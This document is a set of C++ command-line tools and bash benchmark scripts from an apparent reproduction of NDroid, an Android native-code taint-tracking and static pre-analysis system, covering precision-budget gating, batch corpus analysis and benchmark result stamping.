//                                 CI precision gate: aggregate the corpus
//                                 PrecisionReport and fail (exit 1) if any
//                                 counter named in budget file F regressed
//                                 above its checked-in ceiling
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "android/device.h"
#include "apps/cfbench.h"
#include "apps/leak_cases.h"
#include "os/view_reconstructor.h"
#include "static/cfg.h"
#include "static/scan_report.h"
#include "static/summary.h"

namespace {

using namespace ndroid;
namespace sa = ndroid::static_analysis;

struct ScanOut {
  sa::Program program;
  sa::SummaryIndex index;
};

/// Mirrors NDroid::attach_static_analysis's discovery: third-party code
/// regions via VMI, roots from the registered native methods.
ScanOut scan_device(android::Device& device) {
  using android::Layout;
  os::ViewReconstructor vmi(device.memory, os::Kernel::kTaskRoot);
  const auto views = vmi.reconstruct();
  std::vector<sa::CodeRegion> regions;
  for (const auto& proc : views) {
    if (proc.pid != device.app_pid()) continue;
    for (const auto& r : proc.regions) {
      if (r.start >= Layout::kAppLibBase && r.start < Layout::kHeapBase) {
        regions.push_back({r.start, r.end, r.name});
      }
    }
  }
  std::vector<sa::FunctionEntry> entries;
  for (const dvm::Method* m : device.dvm.native_methods()) {
    const GuestAddr stripped = m->native_addr & ~1u;
    if (stripped >= Layout::kAppLibBase && stripped < Layout::kHeapBase) {
      entries.push_back(
          {m->native_addr, m->clazz->descriptor() + "." + m->name});
    }
  }
  const sa::CfgLifter lifter(device.memory, std::move(regions));
  ScanOut out;
  out.program = lifter.lift(entries);
  out.index = sa::summarize(out.program);
  return out;
}

struct App {
  const char* name;
  ScanOut (*scan)();
};

template <apps::LeakScenario (*Build)(android::Device&)>
ScanOut scan_leak_case() {
  android::Device device;
  (void)Build(device);
  return scan_device(device);
}

ScanOut scan_cfbench() {
  android::Device device;
  apps::CfBenchApp app(device);
  return scan_device(device);
}

constexpr App kApps[] = {
    {"cfbench", scan_cfbench},
    {"case1", scan_leak_case<apps::build_case1>},
    {"case1p", scan_leak_case<apps::build_case1_prime>},
    {"case2", scan_leak_case<apps::build_case2>},
    {"case3", scan_leak_case<apps::build_case3>},
    {"case4", scan_leak_case<apps::build_case4>},
};

const App* find_app(const std::string& name) {
  for (const App& app : kApps) {
    if (name == app.name) return &app;
  }
  return nullptr;
}

/// One line per budgeted counter: `<name> <max>`. '#' starts a comment.
struct BudgetLine {
  std::string name;
  u32 max = 0;
};

bool read_budget(const char* path, std::vector<BudgetLine>& out) {
  std::FILE* f = std::fopen(path, "r");
  if (f == nullptr) {
    std::fprintf(stderr, "cannot open budget file '%s'\n", path);
    return false;
  }
  char line[256];
  while (std::fgets(line, sizeof line, f) != nullptr) {
    char name[64];
    unsigned max = 0;
    if (line[0] == '#' || std::sscanf(line, "%63s %u", name, &max) != 2) {
      continue;
    }
    out.push_back({name, static_cast<u32>(max)});
  }
  std::fclose(f);
  return true;
}

/// Maps a budget counter name onto the aggregated report; unknown names are
/// a budget-file bug and fail the gate loudly.
bool counter_value(const sa::PrecisionReport& r, const std::string& name,
                   u32& value) {
  if (name == "opaque_summaries") value = r.opaque_summaries;
  else if (name == "unresolved_branches") value = r.unresolved_indirect_branches;
  else if (name == "unresolved_calls") value = r.unresolved_indirect_calls;
  else if (name == "truncated") value = r.truncated;
  else if (name == "degraded") value = r.degraded;
  else return false;
  return true;
}

sa::PrecisionReport aggregate(const std::vector<const App*>& selected) {
  sa::PrecisionReport total;
  for (const App* app : selected) {
    const ScanOut out = app->scan();
    total.accumulate(sa::precision_report(out.program, out.index));
  }
  return total;
}

int check_budget(const char* path, const std::vector<const App*>& selected) {
  std::vector<BudgetLine> budget;
  if (!read_budget(path, budget) || budget.empty()) {
    std::fprintf(stderr, "empty or unreadable budget '%s'\n", path);
    return 2;
  }
  const sa::PrecisionReport total = aggregate(selected);
  std::printf("precision: %s\n", sa::to_json(total).c_str());
  int failures = 0;
  for (const BudgetLine& b : budget) {
    u32 actual = 0;
    if (!counter_value(total, b.name, actual)) {
      std::fprintf(stderr, "unknown budget counter '%s'\n", b.name.c_str());
      return 2;
    }
    const bool ok = actual <= b.max;
    std::printf("%-20s %u <= %u %s\n", b.name.c_str(), actual, b.max,
                ok ? "OK" : "REGRESSED");
    if (!ok) ++failures;
  }
  return failures == 0 ? 0 : 1;
}

}  // namespace

int main(int argc, char** argv) {
  bool explain = false;
  bool precision_only = false;
  const char* budget_path = nullptr;
  std::vector<const App*> selected;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--list") {
      for (const App& app : kApps) std::printf("%s\n", app.name);
      return 0;
    }
    if (arg == "--explain") {
      explain = true;
      continue;
    }
    if (arg == "--precision") {
      precision_only = true;
      continue;
    }
    if (arg == "--check-budget") {
      if (++i >= argc) {
        std::fprintf(stderr, "--check-budget needs a file argument\n");
        return 2;
      }
      budget_path = argv[i];
      continue;
    }
    const App* app = find_app(arg);
    if (app == nullptr) {
      std::fprintf(stderr, "unknown app '%s' (try --list)\n", arg.c_str());
      return 1;
    }
    selected.push_back(app);
  }
  if (selected.empty()) {
    for (const App& app : kApps) selected.push_back(&app);
  }

  if (budget_path != nullptr) return check_budget(budget_path, selected);

  if (precision_only) {
    std::printf("%s\n", sa::to_json(aggregate(selected)).c_str());
    return 0;
  }

  if (explain) {
    for (const App* app : selected) {
      const ScanOut out = app->scan();
      std::printf("== %s ==\n%s", app->name,
                  sa::explain(out.program, out.index).c_str());
    }
    return 0;
  }

  std::printf("{");
  bool first = true;
  for (const App* app : selected) {
    const ScanOut out = app->scan();
    std::printf("%s\"%s\":%s", first ? "" : ",", app->name,
                sa::to_json(out.program, out.index).c_str());
    first = false;
  }
  std::printf("}\n");
  return 0;
}
