// ndroid-scan: standalone static pre-analysis over the synthetic apps.
//
// Builds a Device, installs the requested app's native libraries and JNI
// registrations, then runs the static layer exactly the way
// NDroid::attach_static_analysis does — code regions from the OS view
// reconstructor, roots from the registered native methods, CFG lift, taint
// summaries — and prints the JSON report. No dynamic execution happens:
// this is the "scan the APK's .so before running it" half of the paper's
// pipeline, usable on its own.
//
//   ndroid-scan [app...]        app in: cfbench case1 case1p case2 case3
//                               case4 (default: all)
//   ndroid-scan --list          list known apps
#include <cstdio>
#include <string>
#include <vector>

#include "android/device.h"
#include "apps/cfbench.h"
#include "apps/leak_cases.h"
#include "os/view_reconstructor.h"
#include "static/cfg.h"
#include "static/scan_report.h"
#include "static/summary.h"

namespace {

using namespace ndroid;
namespace sa = ndroid::static_analysis;

/// Mirrors NDroid::attach_static_analysis's discovery: third-party code
/// regions via VMI, roots from the registered native methods.
std::string scan_device(android::Device& device) {
  using android::Layout;
  os::ViewReconstructor vmi(device.memory, os::Kernel::kTaskRoot);
  const auto views = vmi.reconstruct();
  std::vector<sa::CodeRegion> regions;
  for (const auto& proc : views) {
    if (proc.pid != device.app_pid()) continue;
    for (const auto& r : proc.regions) {
      if (r.start >= Layout::kAppLibBase && r.start < Layout::kHeapBase) {
        regions.push_back({r.start, r.end, r.name});
      }
    }
  }
  std::vector<sa::FunctionEntry> entries;
  for (const dvm::Method* m : device.dvm.native_methods()) {
    const GuestAddr stripped = m->native_addr & ~1u;
    if (stripped >= Layout::kAppLibBase && stripped < Layout::kHeapBase) {
      entries.push_back(
          {m->native_addr, m->clazz->descriptor() + "." + m->name});
    }
  }
  const sa::CfgLifter lifter(device.memory, std::move(regions));
  const sa::Program program = lifter.lift(entries);
  const sa::SummaryIndex index = sa::summarize(program);
  return sa::to_json(program, index);
}

struct App {
  const char* name;
  std::string (*scan)();
};

template <apps::LeakScenario (*Build)(android::Device&)>
std::string scan_leak_case() {
  android::Device device;
  (void)Build(device);
  return scan_device(device);
}

std::string scan_cfbench() {
  android::Device device;
  apps::CfBenchApp app(device);
  return scan_device(device);
}

constexpr App kApps[] = {
    {"cfbench", scan_cfbench},
    {"case1", scan_leak_case<apps::build_case1>},
    {"case1p", scan_leak_case<apps::build_case1_prime>},
    {"case2", scan_leak_case<apps::build_case2>},
    {"case3", scan_leak_case<apps::build_case3>},
    {"case4", scan_leak_case<apps::build_case4>},
};

const App* find_app(const std::string& name) {
  for (const App& app : kApps) {
    if (name == app.name) return &app;
  }
  return nullptr;
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<const App*> selected;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--list") {
      for (const App& app : kApps) std::printf("%s\n", app.name);
      return 0;
    }
    const App* app = find_app(arg);
    if (app == nullptr) {
      std::fprintf(stderr, "unknown app '%s' (try --list)\n", arg.c_str());
      return 1;
    }
    selected.push_back(app);
  }
  if (selected.empty()) {
    for (const App& app : kApps) selected.push_back(&app);
  }

  std::printf("{");
  bool first = true;
  for (const App* app : selected) {
    std::printf("%s\"%s\":%s", first ? "" : ",", app->name,
                app->scan().c_str());
    first = false;
  }
  std::printf("}\n");
  return 0;
}
