// ndroid-farm: batch analysis of an app corpus across worker threads.
//
// Drains the default job mix (Table I leak cases, CF-Bench workloads,
// synthetic market apps, monkey-driven real apps) through src/farm's
// work-stealing engine, sharing static summaries through the process-wide
// SummaryCache. Prints a summary table and optionally the full JSON report.
//
//   ndroid-farm [--jobs N] [--repeat K] [--json out.json]
//               [--market N] [--monkey-events N] [--seed S]
//               [--engine TIER] [--no-share] [--digest]
//
//   --jobs N       worker threads (default 2; 0 = serial inline)
//   --repeat K     run the mix K times (exercises cross-batch cache hits)
//   --json FILE    write the FarmReport JSON to FILE ("-" = stdout)
//   --market N     synthetic market apps in the mix (default 6)
//   --monkey-events N   random invocations per real app (default 12)
//   --seed S       corpus/monkey seed (default 20140623)
//   --engine TIER  CPU execution tier: interp | tb | tb+tlb | threaded
//                  (default threaded; the lower tiers are ablations)
//   --no-share     disable the summary cache (per-job lifting; ablation)
//   --digest       print the canonical leak digest (determinism debugging)
//
// Exits non-zero if any job fails.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>

#include "farm/farm.h"
#include "farm/providers.h"

using namespace ndroid;

namespace {

u64 parse_u64(const char* s) { return std::strtoull(s, nullptr, 10); }

}  // namespace

int main(int argc, char** argv) {
  u32 workers = 2;
  u32 repeat = 1;
  u32 market_apps = 6;
  u32 monkey_events = 12;
  u64 seed = 20140623;
  bool share = true;
  bool digest = false;
  std::string json_path;
  farm::EngineTier engine = farm::EngineTier::kThreaded;

  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    auto value = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "missing value for %s\n", arg);
        std::exit(2);
      }
      return argv[++i];
    };
    if (std::strcmp(arg, "--jobs") == 0) {
      workers = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--repeat") == 0) {
      repeat = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--market") == 0) {
      market_apps = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--monkey-events") == 0) {
      monkey_events = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--seed") == 0) {
      seed = parse_u64(value());
    } else if (std::strcmp(arg, "--json") == 0) {
      json_path = value();
    } else if (std::strcmp(arg, "--engine") == 0) {
      try {
        engine = farm::parse_engine(value());
      } catch (const std::exception& e) {
        std::fprintf(stderr, "%s\n", e.what());
        return 2;
      }
    } else if (std::strcmp(arg, "--no-share") == 0) {
      share = false;
    } else if (std::strcmp(arg, "--digest") == 0) {
      digest = true;
    } else {
      std::fprintf(stderr, "unknown option %s\n", arg);
      return 2;
    }
  }

  const std::vector<farm::JobSpec> mix =
      farm::default_mix(/*cfbench_iterations=*/20, market_apps, monkey_events,
                        seed);
  const std::vector<farm::JobSpec> jobs = farm::repeat_jobs(mix, repeat);

  farm::FarmOptions options;
  options.workers = workers;
  options.share_summaries = share;
  options.engine = engine;
  const farm::FarmReport report = farm::run_farm(jobs, options);

  std::printf(
      "ndroid-farm: %u jobs on %u workers (%s summaries, %s engine)\n"
      "  wall            %.1f ms  (%.1f apps/sec)\n"
      "  leaks           %u native, %u framework\n"
      "  tamper alerts   %u\n"
      "  gate skips      %llu\n"
      "  summary cache   %llu hits / %llu misses / %llu rebinds "
      "(hit rate %.1f%%)\n"
      "  failures        %u\n",
      report.jobs, report.workers, share ? "shared" : "per-job",
      farm::to_string(engine),
      report.wall_ms, report.apps_per_sec, report.native_leaks,
      report.framework_leaks, report.tamper_alerts,
      static_cast<unsigned long long>(report.summary_gate_skips),
      static_cast<unsigned long long>(report.cache.hits),
      static_cast<unsigned long long>(report.cache.misses),
      static_cast<unsigned long long>(report.cache.rebinds),
      100.0 * report.cache.hit_rate(), report.failures);

  for (const farm::JobResult& r : report.results) {
    if (!r.ok) {
      std::printf("  FAILED #%u %s %s: %s\n", r.spec.id,
                  farm::to_string(r.spec.kind), r.spec.name.c_str(),
                  r.error.c_str());
    }
  }

  if (digest) std::fputs(report.leak_digest().c_str(), stdout);

  if (!json_path.empty()) {
    if (json_path == "-") {
      std::fputs(report.to_json().c_str(), stdout);
    } else {
      std::ofstream out(json_path);
      out << report.to_json();
      std::printf("  wrote %s\n", json_path.c_str());
    }
  }

  return report.failures == 0 ? 0 : 1;
}
