// ndroid-farm: batch analysis of an app corpus across worker threads or
// crash-isolated worker processes.
//
// Drains the default job mix (Table I leak cases, CF-Bench workloads,
// synthetic market apps, monkey-driven real apps) — or a differential fuzz
// batch, or jobs streamed over stdin in --serve mode — through src/farm's
// scheduler, sharing static summaries through the process-wide SummaryCache
// and, when --store is given, a persistent on-disk summary store that
// survives restarts. Prints a summary table and optionally the full JSON
// report.
//
//   ndroid-farm [--jobs N] [--processes N] [--job-timeout-ms N]
//               [--store DIR] [--serve] [--fuzz N] [--repeat K]
//               [--json out.json] [--market N] [--monkey-events N]
//               [--seed S] [--engine TIER] [--no-share] [--digest]
//               [--require-store-hits]
//
//   --jobs N       worker threads (default 2; 0 = serial inline)
//   --processes N  worker processes instead of threads: each job runs in a
//                  fork-disposable process, so a crashing or hanging job
//                  costs only itself (supervisor retries it once)
//   --job-timeout-ms N  per-job deadline in process mode (SIGALRM)
//   --store DIR    persistent summary store: hash-verified entries are
//                  loaded instead of re-lifting, fresh lifts are written
//                  back atomically; a second identical run starts warm
//   --serve        long-running mode: read job-spec lines from stdin (point
//                  it at a FIFO for a drop-in analysis service); an empty
//                  line or "run" executes the accumulated batch, "quit"
//                  (or EOF) exits. Lines look like:
//                    leak_case "case 1"
//                    cfbench "Native MIPS" iterations=20
//                    market_app com.x.y libs=libfoo.so,libbar.so
//                    real_app qqphonebook events=12 seed=7
//                    fuzz fuzz-1 seed=1
//                  Batches are bounded (64k jobs); results stream per batch,
//                  so serve mode holds one batch of memory at a time.
//   --fuzz N       replace the mix with N cross-engine differential fuzz
//                  programs (each seed is one crash-isolated job)
//   --repeat K     run the mix K times (exercises cross-batch cache hits)
//   --json FILE    write the FarmReport JSON to FILE ("-" = stdout)
//   --market N     synthetic market apps in the mix (default 6)
//   --monkey-events N   random invocations per real app (default 12)
//   --seed S       corpus/monkey seed (default 20140623)
//   --engine TIER  CPU execution tier: interp | tb | tb+tlb | threaded | jit
//                  (default threaded; the lower tiers are ablations, jit is
//                  the host-code-emission tier — threaded on non-x86 hosts)
//   --no-share     disable the summary cache (per-job lifting; ablation)
//   --digest       print the canonical leak digest (determinism debugging)
//   --require-store-hits  exit non-zero unless the batch hit the persistent
//                  store (CI asserts the second run of a pair starts warm)
//
// Exits non-zero if any job fails (or --require-store-hits is unmet).
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

#include "farm/farm.h"
#include "farm/providers.h"

using namespace ndroid;

namespace {

u64 parse_u64(const char* s) { return std::strtoull(s, nullptr, 10); }

/// Parses one serve-mode job line; returns false (with a message) on junk.
bool parse_job_line(const std::string& line, farm::JobSpec& out,
                    std::string& err) {
  std::istringstream in(line);
  std::string kind;
  if (!(in >> kind)) {
    err = "empty spec";
    return false;
  }
  if (kind == "leak_case") {
    out.kind = farm::JobKind::kLeakCase;
  } else if (kind == "cfbench") {
    out.kind = farm::JobKind::kCfBench;
    out.iterations = 20;
  } else if (kind == "market_app") {
    out.kind = farm::JobKind::kMarketApp;
  } else if (kind == "real_app") {
    out.kind = farm::JobKind::kRealApp;
    out.monkey_events = 12;
  } else if (kind == "fuzz") {
    out.kind = farm::JobKind::kFuzz;
  } else {
    err = "unknown job kind '" + kind + "'";
    return false;
  }

  // Name: bare word or double-quoted (CF-Bench workloads have spaces).
  in >> std::ws;
  if (in.peek() == '"') {
    in.get();
    std::getline(in, out.name, '"');
  } else if (!(in >> out.name)) {
    err = "missing job name";
    return false;
  }

  std::string kv;
  while (in >> kv) {
    const std::size_t eq = kv.find('=');
    if (eq == std::string::npos) {
      err = "expected key=value, got '" + kv + "'";
      return false;
    }
    const std::string key = kv.substr(0, eq);
    const std::string value = kv.substr(eq + 1);
    if (key == "iterations") {
      out.iterations = static_cast<u32>(parse_u64(value.c_str()));
    } else if (key == "events") {
      out.monkey_events = static_cast<u32>(parse_u64(value.c_str()));
    } else if (key == "seed") {
      out.monkey_seed = parse_u64(value.c_str());
    } else if (key == "rep") {
      out.rep = static_cast<u32>(parse_u64(value.c_str()));
    } else if (key == "libs") {
      std::istringstream libs(value);
      std::string lib;
      while (std::getline(libs, lib, ',')) {
        if (!lib.empty()) out.native_libs.push_back(lib);
      }
    } else {
      err = "unknown key '" + key + "'";
      return false;
    }
  }
  return true;
}

void print_report(const farm::FarmReport& report, bool share,
                  farm::EngineTier engine) {
  std::printf(
      "ndroid-farm: %u jobs on %u workers / %u processes (%s summaries, "
      "%s engine)\n"
      "  wall            %.1f ms  (%.1f apps/sec)\n"
      "  leaks           %u native, %u framework\n"
      "  tamper alerts   %u\n"
      "  gate skips      %llu\n"
      "  summary cache   %llu hits / %llu misses / %llu rebinds "
      "(hit rate %.1f%%)\n"
      "  summary store   %llu hits / %llu writes (%u pre-warmed)\n"
      "  failures        %u  (retries %u, worker deaths %u)\n",
      report.jobs, report.workers, report.processes,
      share ? "shared" : "per-job", farm::to_string(engine), report.wall_ms,
      report.apps_per_sec, report.native_leaks, report.framework_leaks,
      report.tamper_alerts,
      static_cast<unsigned long long>(report.summary_gate_skips),
      static_cast<unsigned long long>(report.cache.hits),
      static_cast<unsigned long long>(report.cache.misses),
      static_cast<unsigned long long>(report.cache.rebinds),
      100.0 * report.cache.hit_rate(),
      static_cast<unsigned long long>(report.cache.store_hits),
      static_cast<unsigned long long>(report.cache.store_writes),
      report.warm_entries, report.failures, report.retries,
      report.worker_deaths);

  for (const farm::JobResult& r : report.results) {
    if (!r.ok) {
      std::printf("  FAILED #%u %s %s: %s\n", r.spec.id,
                  farm::to_string(r.spec.kind), r.spec.name.c_str(),
                  r.error.c_str());
    }
  }
}

}  // namespace

int main(int argc, char** argv) {
  u32 workers = 2;
  u32 processes = 0;
  u32 job_timeout_ms = 0;
  u32 repeat = 1;
  u32 market_apps = 6;
  u32 monkey_events = 12;
  u32 fuzz_count = 0;
  u64 seed = 20140623;
  bool share = true;
  bool digest = false;
  bool serve = false;
  bool require_store_hits = false;
  std::string json_path;
  std::string store_dir;
  farm::EngineTier engine = farm::EngineTier::kThreaded;

  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    auto value = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "missing value for %s\n", arg);
        std::exit(2);
      }
      return argv[++i];
    };
    if (std::strcmp(arg, "--jobs") == 0) {
      workers = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--processes") == 0) {
      processes = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--job-timeout-ms") == 0) {
      job_timeout_ms = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--store") == 0) {
      store_dir = value();
    } else if (std::strcmp(arg, "--serve") == 0) {
      serve = true;
    } else if (std::strcmp(arg, "--fuzz") == 0) {
      fuzz_count = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--repeat") == 0) {
      repeat = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--market") == 0) {
      market_apps = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--monkey-events") == 0) {
      monkey_events = static_cast<u32>(parse_u64(value()));
    } else if (std::strcmp(arg, "--seed") == 0) {
      seed = parse_u64(value());
    } else if (std::strcmp(arg, "--json") == 0) {
      json_path = value();
    } else if (std::strcmp(arg, "--engine") == 0) {
      try {
        engine = farm::parse_engine(value());
      } catch (const std::exception& e) {
        std::fprintf(stderr, "%s\n", e.what());
        return 2;
      }
    } else if (std::strcmp(arg, "--no-share") == 0) {
      share = false;
    } else if (std::strcmp(arg, "--digest") == 0) {
      digest = true;
    } else if (std::strcmp(arg, "--require-store-hits") == 0) {
      require_store_hits = true;
    } else {
      std::fprintf(stderr, "unknown option %s\n", arg);
      return 2;
    }
  }

  farm::FarmOptions options;
  options.workers = workers;
  options.processes = processes;
  options.job_timeout_ms = job_timeout_ms;
  options.store_dir = store_dir;
  options.share_summaries = share;
  options.engine = engine;

  // One cache for the whole invocation: --repeat batches and --serve
  // rounds amortise into it (and through it into the store).
  static_analysis::SummaryCache cache;
  if (share) options.cache = &cache;

  u32 exit_failures = 0;
  u64 store_hits_total = 0;

  const auto run_batch = [&](const std::vector<farm::JobSpec>& jobs) {
    const farm::FarmReport report = farm::run_farm(jobs, options);
    print_report(report, share, engine);
    if (digest) std::fputs(report.leak_digest().c_str(), stdout);
    if (!json_path.empty()) {
      if (json_path == "-") {
        std::fputs(report.to_json().c_str(), stdout);
      } else {
        std::ofstream out(json_path);
        out << report.to_json();
        std::printf("  wrote %s\n", json_path.c_str());
      }
    }
    exit_failures += report.failures;
    store_hits_total += report.cache.store_hits;
  };

  if (serve) {
    // Long-running service loop: accumulate specs, run on demand. Memory
    // stays bounded — one batch in flight, results dropped after printing.
    constexpr std::size_t kMaxBatch = 65536;
    std::vector<farm::JobSpec> batch;
    std::string line;
    u32 next_id = 0;
    const auto flush = [&] {
      if (batch.empty()) return;
      std::printf("serve: running %zu job(s)\n", batch.size());
      std::fflush(stdout);
      run_batch(batch);
      std::fflush(stdout);
      batch.clear();
      next_id = 0;
    };
    while (std::getline(std::cin, line)) {
      if (line == "quit" || line == "exit") break;
      if (line.empty() || line == "run") {
        flush();
        continue;
      }
      if (line[0] == '#') continue;
      farm::JobSpec spec;
      std::string err;
      if (!parse_job_line(line, spec, err)) {
        std::printf("serve: bad spec (%s): %s\n", err.c_str(), line.c_str());
        std::fflush(stdout);
        continue;
      }
      spec.id = next_id++;
      batch.push_back(std::move(spec));
      if (batch.size() >= kMaxBatch) flush();
    }
    flush();
  } else {
    std::vector<farm::JobSpec> mix;
    if (fuzz_count > 0) {
      mix = farm::fuzz_jobs(fuzz_count, seed);
    } else {
      mix = farm::default_mix(/*cfbench_iterations=*/20, market_apps,
                              monkey_events, seed);
    }
    run_batch(farm::repeat_jobs(mix, repeat));
  }

  if (require_store_hits && store_hits_total == 0) {
    std::fprintf(stderr,
                 "ndroid-farm: --require-store-hits: no persistent-store hits "
                 "(store cold or missing)\n");
    return 3;
  }
  return exit_failures == 0 ? 0 : 1;
}
