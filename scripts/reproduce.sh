#!/usr/bin/env bash
# Full reproduction run: build, test, and regenerate every table/figure.
set -euo pipefail
cd "$(dirname "$0")/.."

cmake -B build -G Ninja
cmake --build build

echo "== tests =="
ctest --test-dir build --output-on-failure

echo "== experiments =="
status=0
for b in build/bench/*; do
  if [ -f "$b" ] && [ -x "$b" ]; then
    echo "===== $(basename "$b") ====="
    "$b" || { echo "!! $(basename "$b") diverged from the paper's shape"; status=1; }
    echo
  fi
done

echo "== examples =="
for e in build/examples/*; do
  if [ -f "$e" ] && [ -x "$e" ]; then
    "$e" > /dev/null || { echo "!! example $(basename "$e") failed"; status=1; }
    echo "ok $(basename "$e")"
  fi
done

exit "$status"
