#!/usr/bin/env bash
# Runs the performance suite and writes machine-readable results:
#   BENCH_micro.json   — google-benchmark JSON from bench_micro (ns/insn,
#                        insns/sec, TB hit rate per benchmark)
#   BENCH_cfbench.json — Fig. 10 CF-Bench slowdowns + shape checks
#   BENCH_farm.json    — farm throughput at 1/2/4/8 workers plus the
#                        crash-isolated process-pool rows (p=2 without the
#                        zygote template, bare, cold persistent store, warm
#                        persistent store) + cache/store hit rates (see
#                        bench_farm.cc for the shape checks: topology-
#                        identical digests, template setup_ms saving, warm
#                        store static_ms saving)
#
# Usage: scripts/bench.sh [build-dir] [--engine TIER]
#   build-dir        defaults to ./build-bench
#   --engine TIER    CPU execution tier for the farm rows and the engine
#                    stamp in every JSON:
#                    interp | tb | tb+tlb | threaded | jit
#                    (default threaded, the production tier; jit degrades
#                    to threaded on hosts without host-code emission)
#
# The build directory is configured and built here with
# CMAKE_BUILD_TYPE=Release — perf numbers from unoptimised binaries are not
# comparable, so this script refuses to inherit whatever build type a
# pre-existing directory happens to carry. (The "library_build_type" field
# google-benchmark emits describes the *system benchmark library*, which may
# itself be a debug build; the "repo_build_type" stamped below is ours.)
# Every JSON gets the producing git SHA stamped into its context.
#
# BENCH_micro.json records two acceptance ratios (compare items_per_second):
#   * TB cache:     BM_EmulatorNativeMips vs BM_EmulatorNativeMipsInterp
#                   (taint-free native loop, TB cache on vs seed interpreter,
#                   target >= 3x).
#   * Summary gate: the live-taint gating trio
#                   BM_EmulatorNativeMipsTracedTaintedSummary (summary-gated)
#                   vs BM_EmulatorNativeMipsTracedTainted (liveness-only)
#                   vs BM_EmulatorNativeMipsTracedTaintedFull (full trace).
#                   Taint is live in r4, so liveness-only cannot skip and
#                   lands within noise of full trace; summary-gated must
#                   clearly beat both (~3-4x in EXPERIMENTS.md).
#   * Threaded:     BM_EmulatorNativeMips (threaded default) vs
#                   BM_EmulatorNativeMipsTbTlb (PR-5 per-instruction tier),
#                   target >= 2x — and BM_EmulatorNativeMipsTraced must land
#                   within noise of BM_EmulatorNativeMips (clean blocks pay
#                   no taint cost). BM_ThreadedDispatch isolates the
#                   dispatch loop itself against BM_ThreadedDispatchTbTlb.
#   * Template JIT: BM_JitNativeMips (host x86-64 emission) vs
#                   BM_EmulatorNativeMips (threaded tier), target >= 1.3x
#                   on x86-64 hosts; BM_JitDispatch isolates the dispatch
#                   loop under patched host jumps.
#   * Taint-fused JIT: BM_JitTracedTainted (taint-live blocks on the
#                   traced host stream: inlined Table V transfers, shadow-
#                   TLB label probes, deferred bookkeeping resync) vs
#                   BM_EmulatorNativeMipsTracedTainted (threaded fused-
#                   trace tier), target >= 3x on x86-64 hosts. Its
#                   jit_traced_blocks / jit_fallback_blocks counters prove
#                   which tier executed and are copied into every
#                   artifact's context alongside the code-arena statistics
#                   from BM_JitNativeMips (blocks, bytes, link patches,
#                   arena flushes) as "jit_tier" below.
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD_DIR="build-bench"
ENGINE="threaded"
while [[ $# -gt 0 ]]; do
  case "$1" in
    --engine)
      ENGINE="$2"
      shift 2
      ;;
    *)
      BUILD_DIR="$1"
      shift
      ;;
  esac
done
case "$ENGINE" in
  interp|tb|tb+tlb|threaded|jit) ;;
  *)
    echo "unknown engine tier: $ENGINE (expected interp|tb|tb+tlb|threaded|jit)" >&2
    exit 2
    ;;
esac
GIT_SHA="$(git rev-parse --short HEAD 2>/dev/null || echo unknown)"
export GIT_SHA

cmake -S . -B "$BUILD_DIR" -DCMAKE_BUILD_TYPE=Release
cmake --build "$BUILD_DIR" -j "$(nproc)" --target \
  bench_micro bench_fig10_cfbench bench_farm ndroid-scan

# Static-precision counters for this revision (aggregated PrecisionReport
# over the synthetic corpus): stamped into every artifact's context so a
# perf number can always be read next to the precision the static layer
# delivered when it was produced.
PRECISION_JSON="$("$BUILD_DIR/tools/ndroid-scan" --precision)"
export PRECISION_JSON

# The bundled google-benchmark predates the "0.3s" suffix syntax.
"$BUILD_DIR/bench/bench_micro" \
  --benchmark_min_time=0.3 \
  --benchmark_format=json \
  --benchmark_out=BENCH_micro.json \
  --benchmark_out_format=json

# 9 reps: the shape checks compare wall-clock medians, which need headroom
# against scheduler noise (EXPERIMENTS.md records this 9-rep median).
"$BUILD_DIR/bench/bench_fig10_cfbench" 9 --json BENCH_cfbench.json

# 12 reps: enough corpus repetition that the summary cache's hit rate must
# exceed 90% (~15 distinct libraries across ~430 acquires).
"$BUILD_DIR/bench/bench_farm" 12 --json BENCH_farm.json --engine "$ENGINE"

# Stamp provenance into the artifacts bench_farm doesn't already stamp
# (the producing git SHA and the build type of this repo's code), plus the
# static-precision counters and the JIT tier's code-arena statistics
# (scraped from BM_JitNativeMips's counters in BENCH_micro.json) into all
# three, so any perf number can be read next to how much host code backed it.
python3 - "$GIT_SHA" "$ENGINE" BENCH_micro.json BENCH_cfbench.json BENCH_farm.json <<'EOF'
import json, os, sys
sha, engine = sys.argv[1], sys.argv[2]
precision = json.loads(os.environ["PRECISION_JSON"])

with open("BENCH_micro.json") as f:
    micro = json.load(f)
jit_tier = {}
for b in micro.get("benchmarks", []):
    if b.get("name") == "BM_JitNativeMips":
        jit_tier = {k: b[k] for k in
                    ("jit_blocks", "jit_bytes", "jit_links", "jit_patches",
                     "jit_arena_flushes") if k in b}
for b in micro.get("benchmarks", []):
    if b.get("name") == "BM_JitTracedTainted":
        jit_tier.update({k: b[k] for k in
                         ("jit_traced_blocks", "jit_fallback_blocks")
                         if k in b})
# jit_blocks == 0 means the host has no code emission and the jit tier
# degraded to threaded: record that explicitly.
jit_tier["jit_available"] = bool(jit_tier.get("jit_blocks", 0))

for path in sys.argv[3:]:
    with open(path) as f:
        doc = json.load(f)
    doc.setdefault("context", {})
    if path != "BENCH_farm.json":
        doc["context"]["git_sha"] = sha
